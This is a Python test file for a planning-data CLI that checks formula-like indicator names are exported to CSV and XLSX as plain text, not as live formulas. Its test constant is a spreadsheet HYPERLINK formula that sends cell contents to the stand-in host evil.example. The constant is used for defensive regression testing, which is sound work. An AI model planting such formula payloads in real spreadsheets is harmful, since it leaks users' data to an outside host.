"""Plan text that looks like a formula is written to spreadsheets as text (issue 17, item 6).

The plan below is the bundled one with the name of its first indicator replaced by a formula, as a
hostile draft could have it. Before the fix, `export --format xlsx` and `template` wrote it as a
live formula (openpyxl data type "f", an <f> element in the sheet XML).
"""

from __future__ import annotations

import zipfile
from pathlib import Path

import pytest
from openpyxl import Workbook, load_workbook
from typer.testing import CliRunner

from planwatch.cli import app
from planwatch.formulas import append_row, csv_field, is_formula_like
from planwatch.services.plans import bundled_plan_path

EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"点我")'
runner = CliRunner()


@pytest.mark.parametrize("text", [EVIL, "+1+2", "-2+3", "@SUM(A1:A2)", "\t=1+1", "\r=1+1", "=", "-"])
def test_text_starting_like_a_formula_is_recognised(text: str) -> None:
    assert is_formula_like(text)
    assert csv_field(text) == "'" + text


@pytest.mark.parametrize("value", ["地区生产总值", "", " =1", "（=1）", 5, -3.5, None])
def test_other_values_are_left_alone(value: object) -> None:
    assert not is_formula_like(value)
    assert csv_field(value) == value


def test_append_row_writes_formula_like_text_as_text_and_numbers_as_numbers(tmp_path: Path) -> None:
    book = Workbook()
    sheet = book.active
    assert sheet is not None
    append_row(sheet, [EVIL, "+1", -3.5, "普通文字"])
    book.save(tmp_path / "x.xlsx")
    cells = next(load_workbook(tmp_path / "x.xlsx").active.iter_rows())  # type: ignore[union-attr]
    assert [(c.value, c.data_type) for c in cells] == [
        (EVIL, "s"),
        ("+1", "s"),
        (-3.5, "n"),
        ("普通文字", "s"),
    ]
    assert cells[0].quotePrefix and cells[1].quotePrefix and not cells[3].quotePrefix


@pytest.fixture
def hostile_plan(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    lines = bundled_plan_path().read_text(encoding="utf-8").split("\n")
    assert lines[340] == "\t地区生产总值（亿元）"  # the first indicator of the 十四五 table
    lines[340] = "\t" + EVIL
    path = tmp_path / "evil.txt"
    path.write_text("\n".join(lines), encoding="utf-8")
    monkeypatch.setenv("PLANWATCH_DATABASE_URL", f"sqlite:///{tmp_path / 'cli.db'}")
    assert runner.invoke(app, ["ingest", str(path)]).exit_code == 0
    return tmp_path


def _formula_cells(path: Path) -> tuple[list[tuple[str, str, object]], int]:
    """Cells holding the hostile text (sheet, data type, value), and <f> elements in the whole file."""
    found = [
        (sheet.title, cell.data_type, cell.value)
        for sheet in load_workbook(path).worksheets
        for row in sheet.iter_rows()
        for cell in row
        if isinstance(cell.value, str) and "HYPERLINK" in cell.value
    ]
    with zipfile.ZipFile(path) as archive:
        formulas = sum(
            archive.read(name).count(b"<f>") + archive.read(name).count(b"<f ")
            for name in archive.namelist()
            if name.startswith("xl/worksheets/")
        )
    return found, formulas


def test_export_xlsx_writes_a_formula_named_indicator_as_text(hostile_plan: Path) -> None:
    out = hostile_plan / "plan.xlsx"
    assert runner.invoke(app, ["export", "1", "--format", "xlsx", "-o", str(out)]).exit_code == 0
    found, formulas = _formula_cells(out)
    assert ("指标", "s", EVIL) in found
    assert {data_type for _, data_type, _ in found} == {"s"} and {value for *_, value in found} == {EVIL}
    assert formulas == 0


def test_template_writes_a_formula_named_indicator_as_text(hostile_plan: Path) -> None:
    out = hostile_plan / "template.xlsx"
    assert runner.invoke(app, ["template", "1", "-o", str(out)]).exit_code == 0
    found, formulas = _formula_cells(out)
    assert found == [("指标数据", "s", EVIL)]
    assert formulas == 0
